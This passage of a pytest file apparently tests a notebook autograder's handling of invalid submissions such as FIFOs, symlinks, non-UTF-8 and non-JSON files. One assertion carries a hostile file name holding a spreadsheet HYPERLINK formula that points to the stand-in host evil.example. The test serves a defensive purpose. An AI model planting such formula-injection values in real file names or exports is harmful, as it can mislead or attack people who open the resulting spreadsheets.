    assert '=HYPERLINK("evil.example","free marks").md' in hostile["feedback"]
    assert not any(name.startswith(".") for name in hostile["feedback"])


@pytest.mark.parametrize("name, reason", [
    ("b_fifo", "a FIFO, not a notebook file"), ("b_zero", "a symbolic link, not a notebook file"),
    ("b_link", "a symbolic link, not a notebook file"), ("b_two", "it holds 2"), ("b_none", "it holds 0"),
    ("b_inner", "a FIFO, not a regular file"), ("b_huge", "a notebook may have at most"),
    ("b_latin1", "not UTF-8"), ("b_notjson", "not JSON"), ("b_notes.txt", "its extension is .txt")])
def test_a_bad_entry_is_one_invalid_row_with_its_reason(hostile, name, reason):
    row = hostile["rows"][name]
    assert row["status"] == "invalid" and reason in row["note"], row
    assert all(row[c] == "not-run" for c in CHECKS) and _passed(row) == 0
